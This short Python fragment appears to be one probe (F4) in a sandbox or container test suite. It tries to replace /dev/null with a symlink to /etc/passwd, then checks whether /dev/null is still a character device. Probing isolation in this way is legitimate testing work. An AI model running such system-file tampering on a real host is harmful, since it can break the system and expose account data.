# F4: put something else in the place of /dev/null, which masks could be taken from.
import errno, os, stat
target = _query or "/dev/null"
try:
    os.symlink("/etc/passwd", target + ".new")
    os.rename(target + ".new", target)
    answer = "replaced"
except OSError as error:
    answer = errno.errorcode[error.errno]
info = os.stat("/dev/null")
return {"answer": answer, "null": [stat.S_ISCHR(info.st_mode), os.major(info.st_rdev), os.minor(info.st_rdev)]}
